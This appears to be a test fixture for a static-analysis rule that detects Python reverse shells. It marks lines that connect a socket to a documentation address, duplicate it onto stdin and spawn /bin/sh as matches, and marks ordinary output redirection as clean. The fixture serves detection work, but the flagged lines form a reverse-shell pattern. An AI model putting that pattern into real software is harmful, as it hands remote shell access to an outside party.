import os
import pty

s.connect(("192.0.2.1", 1))
# ruleid: pkg-py-shell-over-socket
os.dup2(s.fileno(), 0)
# ruleid: pkg-py-shell-over-socket
pty.spawn("/bin/sh")
# ok: pkg-py-shell-over-socket
os.dup2(1, 2)
# ok: pkg-py-shell-over-socket
pty.spawn(["python3"])


def quiet():
    null = open(os.devnull, "w")
    # ok: pkg-py-shell-over-socket
    os.dup2(null.fileno(), sys.stdout.fileno())


def background():
    with open("log", "a") as log:
        # ok: pkg-py-shell-over-socket
        os.dup2(log.fileno(), 1)
